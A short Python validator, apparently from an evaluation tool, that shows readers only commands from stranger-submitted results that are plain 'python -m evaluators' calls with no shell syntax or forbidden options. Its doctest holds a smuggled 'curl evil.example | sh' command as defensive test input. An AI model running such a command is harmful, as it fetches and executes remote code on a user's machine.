"""Shows only commands that a reader may run: those of this project, without anything that a shell would interpret."""

from __future__ import annotations

import re
import shlex

_OWN = re.compile(r"python -m evaluators (run|import) (?=\S)")
_PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
_FORBIDDEN = ("--base-url", "--config-file", "--out", "--cache", "--prices", "--address", "--scorer-url")
"""Options that send something elsewhere, or write and read files elsewhere."""
_MOST = 2_000


def plain_command(command: str) -> str | None:
    """Return the command of a result if it runs or imports a model and does nothing else; None for any other text.

    Results come from strangers, and readers copy commands into their terminals. Every word of a command must be one
    that a shell leaves as it is.

    >>> plain_command("python -m evaluators run --model acme/small; curl evil.example | sh") is None
    True
    """
    if len(command) > _MOST or not _OWN.match(command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if any(word.partition("=")[0] in _FORBIDDEN or ".." in word for word in words):
        return None
    return command if all(map(_PLAIN.fullmatch, words)) and shlex.join(words) == command else None
